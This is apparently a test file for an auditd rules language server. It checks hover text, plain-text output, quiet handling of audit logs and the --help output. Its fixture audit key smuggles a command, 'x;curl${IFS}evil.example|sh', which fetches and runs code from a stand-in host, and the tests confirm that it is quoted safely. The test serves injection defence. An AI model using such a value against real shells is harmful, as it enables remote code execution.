import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { LspTestClient, serverPath } from './lspClient';

interface Hover {
  contents: { kind: string; value: string };
}

const line = '-a always,exit -F arch=b64 -S open -k x;curl${IFS}evil.example|sh';
const onKey = { line: 0, character: line.indexOf('-k x') + 4 };

describe('hover text from the file, over stdio', () => {
  let markdownClient: LspTestClient;
  let plainClient: LspTestClient;

  before(async () => {
    markdownClient = await LspTestClient.start();
    plainClient = await LspTestClient.start({ hoverContentFormat: ['plaintext'] });
  });
  after(async () => {
    await markdownClient.stop();
    await plainClient.stop();
  });

  test('a key with shell characters: the ausearch command is quoted', async () => {
    const uri = 'file:///work/hover-markdown.rules';
    await markdownClient.open(uri, `${line}\n`);
    const hover = await markdownClient.request<Hover>('textDocument/hover', {
      textDocument: { uri }, position: onKey,
    });
    assert.equal(hover.contents.kind, 'markdown');
    assert.ok(hover.contents.value.includes("`ausearch -k 'x;curl${IFS}evil.example|sh'`"),
      hover.contents.value);
  });

  test('a client that takes only plain text gets plain text, without Markdown marks',
    async () => {
      const uri = 'file:///work/hover-plain.rules';
      await plainClient.open(uri, `${line}\n`);
      const hover = await plainClient.request<Hover>('textDocument/hover', {
        textDocument: { uri }, position: onKey,
      });
      assert.equal(hover.contents.kind, 'plaintext');
      assert.ok(hover.contents.value.startsWith('Key x;curl${IFS}evil.example|sh: 1 rule'),
        hover.contents.value);
      assert.ok(hover.contents.value.includes("ausearch -k 'x;curl${IFS}evil.example|sh' finds"),
        hover.contents.value);
      assert.doesNotMatch(hover.contents.value, /\*\*|`|\\/);
    });
});

describe('documents of other languages, over stdio', () => {
  let client: LspTestClient;
  before(async () => {
    client = await LspTestClient.start({ pullDiagnostics: false });
  });
  after(async () => {
    await client.stop();
  });

  test('an audit log opened by a generic client is ignored quietly', async () => {
    const uri = 'file:///work/samples/audit.log';
    await client.connection.sendNotification('textDocument/didOpen', {
      textDocument: {
        uri, languageId: 'audit-log', version: 1,
        text: 'type=SYSCALL msg=audit(1700000000.001:1): arch=c000003e syscall=59\n',
      },
    });
    const hover = await client.request<Hover | null>('textDocument/hover', {
      textDocument: { uri }, position: { line: 0, character: 3 },
    });
    assert.equal(hover, null);
    const lenses = await client.request<unknown[]>('textDocument/codeLens', {
      textDocument: { uri },
    });
    assert.deepEqual(lenses, []);
    assert.deepEqual(client.logMessages.filter((entry) => entry.type === 1), []);
  });
});

test('auditd-language-server --help prints its usage on stdout and succeeds', () => {
  const run = spawnSync(process.execPath, [serverPath, '--help'], { encoding: 'utf8' });
  assert.equal(run.status, 0, run.stderr);
  assert.match(run.stdout, /^usage: auditd-language-server --stdio/);
});
